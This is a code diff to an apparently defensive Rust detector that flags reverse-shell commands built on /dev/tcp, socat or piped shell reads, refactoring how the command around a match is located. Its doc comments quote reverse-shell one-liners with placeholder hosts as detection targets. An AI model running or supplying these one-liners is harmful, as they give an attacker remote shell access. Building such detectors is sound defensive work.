@@ -2,6 +2,7 @@
 //!
 //! A connection alone is common: `(echo > /dev/tcp/db/5432)` waits for a port. It is found only together with a shell.
 
+use crate::command_text::command_around;
 use crate::downloads::{is_shell, names_shell, program_name};
 use crate::span::Span;
 
@@ -42,30 +43,20 @@ pub(crate) fn connects_shell(text: &str, word: Span) -> bool {
     let at = word.start - from;
     match word.of(text) {
         "/dev/tcp/" | "/dev/udp/" => redirects_shell(near, at),
-        "socat " => runs_in_socat(command_at(near, at)),
+        "socat " => runs_in_socat(command_at(near, at).1),
         word => {
             runs_in_program(near, word) || {
-                let command = command_at(near, at).replace("\\\n", " ");
+                let command = command_at(near, at).1.replace("\\\n", " ");
                 pipes_shell(&command) || executes_shell(&command)
             }
         }
     }
 }
 
-/// Returns the command at a byte: its line, and those that `\` or `|` joins with it.
-fn command_at(text: &str, at: usize) -> &str {
-    let joins = |line: &str| line.trim_end().ends_with(['\\', '|']);
-    let line_start = |at: usize| text[..at].rfind('\n').map_or(0, |end| end + 1);
-    let line_end = |at: usize| text[at..].find('\n').map_or(text.len(), |end| at + end);
-    let mut start = line_start(at);
-    while start > 0 && joins(&text[line_start(start - 1)..start - 1]) {
-        start = line_start(start - 1);
-    }
-    let mut end = line_end(at);
-    while end < text.len() && joins(&text[line_start(end)..end]) {
-        end = line_end(end + 1);
-    }
-    &text[start..end]
+/// Returns the command at a byte, and the byte at which it begins.
+fn command_at(text: &str, at: usize) -> (usize, &str) {
+    let command = command_around(text, Span::at(at), NEAR);
+    (command.start, command.of(text))
 }
 
 /// `bash -i >& /dev/tcp/HOST/PORT 0>&1`, and `exec 5<>/dev/tcp/HOST/PORT; sh <&5 >&5`. Byte `at` is the start
@@ -109,12 +100,11 @@ fn redirects_shell(text: &str, at: usize) -> bool {
 
 /// Whether what is read at byte `at` is run: `sh <&5`, `cat <&5 | sh`, `while read line; do $line; done <&5`.
 fn reads_commands(text: &str, at: usize, length: usize) -> bool {
-    let line = text[..at].rfind('\n').map_or(0, |end| end + 1);
-    let command = command_at(text, at);
-    let rest = command.get(at + length - line..).unwrap_or_default();
+    let (start, command) = command_at(text, at);
+    let rest = command.get(at + length - start..).unwrap_or_default();
     let piped = rest.split('|').nth(1).is_some_and(is_shell);
     let loops = ["do $", "do eval", "do \"$", "eval \"$"];
-    ends_with_shell(&text[line..at])
+    ends_with_shell(&text[start..at])
         || piped
         || command.contains("read ") && loops.iter().any(|start| command.contains(start))
 }
